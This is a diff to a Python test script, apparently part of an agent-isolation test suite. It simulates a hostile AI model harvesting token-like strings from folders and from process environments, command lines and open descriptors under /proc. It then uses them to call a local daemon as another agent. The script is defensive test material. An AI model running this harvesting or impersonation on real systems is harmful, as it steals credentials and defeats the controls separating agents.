@@ -1,12 +1,15 @@
 """What a hostile model's shell command does to call the daemon as another agent: read every file
-of the given folders, every process's environment, command line and open descriptors it can, take
-every string that could be a token, find the project's daemon (the loopback listener of the
-process whose command line names the project), and call the tool with each of them (and with
-none) as the agent it names. Standard library only: it runs under any python3.
+of the given folders, every process's environment and command line, the open descriptors of the
+session's processes (those below ROOT), take every string that could be a token, find the
+project's daemon (the loopback listener of the process whose command line names the project),
+and call the tool with each of them (and with none) as the agent it names. Standard library
+only: it runs under any python3.
 
-    python3 intruder.py AGENT TOOL PROJECT FOLDER...
+    python3 intruder.py AGENT TOOL ROOT PROJECT FOLDER...
 
-It prints ``{"candidates": N, "answers": {"PORT": {"STATUS": count}}}``.
+It prints ``{"candidates": N, "answers": {"PORT": {"STATUS": count}}}``. Pipes are left alone:
+reading one takes what waits in it from its reader — another test's messages — and the daemon
+hands nothing over a pipe (a socket cannot be opened through ``/proc`` at all).
 """
 
 from __future__ import annotations
@@ -14,6 +17,7 @@ from __future__ import annotations
 import json
 import os
 import re
+import stat
 import sys
 import urllib.error
 import urllib.request
@@ -36,18 +40,33 @@ def read(path: str) -> bytes:
         os.close(descriptor)
 
 
-def everything_readable(folders: list[str]) -> list[bytes]:
+def everything_readable(root: int, folders: list[str]) -> list[bytes]:
     found = []
     for folder in folders:
         for parent, _, files in os.walk(folder):
             found += [read(os.path.join(parent, name)) for name in files]
     for pid in filter(str.isdigit, os.listdir("/proc")):
         found += [read(f"/proc/{pid}/environ"), read(f"/proc/{pid}/cmdline")]
+    for pid in descendants(root):
         try:
-            descriptors = os.listdir(f"/proc/{pid}/fd")
+            descriptors = [f"/proc/{pid}/fd/{fd}" for fd in os.listdir(f"/proc/{pid}/fd") if int(fd) > 2]
+            found += [read(path) for path in descriptors if not stat.S_ISFIFO(os.stat(path).st_mode)]
         except OSError:
             continue
-        found += [read(f"/proc/{pid}/fd/{fd}") for fd in descriptors if int(fd) > 2]
+    return found
+
+
+def descendants(root: int) -> list[int]:
+    found, pending = [], [root]
+    while pending:
+        pid = pending.pop()
+        try:
+            tasks = os.listdir(f"/proc/{pid}/task")
+            children = [int(c) for t in tasks for c in read(f"/proc/{pid}/task/{t}/children").split()]
+        except OSError:
+            continue
+        found += children
+        pending += children
     return found
 
 
@@ -86,8 +105,8 @@ def status_of(port: int, tool: str, agent: str, token: bytes | None) -> str:
 
 
 def main() -> None:
-    agent, tool, project, folders = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[3:]
-    candidates = {match for data in everything_readable(folders) for match in TOKEN.findall(data)}
+    agent, tool, root, project, folders = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[4:]
+    candidates = {match for data in everything_readable(root, folders) for match in TOKEN.findall(data)}
     answers: dict[str, Counter[str]] = {}
     for port in daemon_ports(project):
         tried = answers[str(port)] = Counter()
